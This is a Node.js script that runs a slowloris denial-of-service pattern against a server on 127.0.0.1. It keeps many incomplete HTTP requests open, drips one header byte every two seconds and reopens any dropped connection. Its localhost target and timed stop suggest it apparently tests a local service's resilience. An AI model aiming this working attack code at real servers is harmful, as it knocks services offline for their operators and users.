// Holds N slow connections open against a server, as a slowloris attacker does: each sends one
// header byte every 2 s and never finishes; a connection the server closes is opened again at
// once. Prints the number held every 5 s; stops after SECONDS.
// usage: node slowloris.mjs PORT N SECONDS
import net from 'node:net';

const [port, n, seconds] = process.argv.slice(2).map(Number);
const line = 'POST /v1/completions HTTP/1.1\r\nHost: x\r\nX-Slow: ' + 'a'.repeat(4000);
const socks = new Set();
let opened = 0;
function open() {
  const s = net.connect(port, '127.0.0.1');
  s.pos = 0;
  s.on('error', () => {});
  s.on('close', () => {
    socks.delete(s);
    if (!stopping) setTimeout(open, 10);
  });
  socks.add(s);
  opened++;
}
let stopping = false;
for (let i = 0; i < n; i++) open();
const drip = setInterval(() => {
  for (const s of socks) if (!s.destroyed && s.writable) s.write(line[s.pos++ % line.length]);
}, 2000);
const report = setInterval(() => console.log(`slowloris: ${socks.size} open, ${opened} opened in all`), 5000);
setTimeout(() => {
  stopping = true;
  clearInterval(drip);
  clearInterval(report);
  console.log(`slowloris: ${socks.size} open at the end, ${opened} opened in all`);
  for (const s of socks) s.destroy();
  process.exit(0);
}, seconds * 1000);
